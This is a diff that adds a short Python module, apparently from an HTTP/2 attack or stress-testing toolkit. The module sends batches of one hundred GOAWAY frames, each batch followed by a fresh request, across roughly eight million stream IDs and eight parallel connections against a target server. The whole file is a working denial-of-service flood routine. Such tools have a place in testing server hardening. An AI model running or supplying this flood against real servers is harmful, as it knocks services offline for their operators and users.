@@ -1,0 +1,17 @@
+"""GOAWAY frames one behind the other, between requests that go on."""
+
+import frames
+from attack import Attack
+
+ATTACK = Attack()
+
+
+async def run(target):
+    goodbye = frames.frame(frames.GOAWAY, payload=b"\0\0\0\0\0\0\0\0")
+    head = frames.head(b"/small")
+
+    def batches():
+        for stream in range(1, 1 << 24, 2):
+            yield goodbye * 100 + frames.request(stream, head)
+
+    return await target.flood(8, frames.opening(), batches)
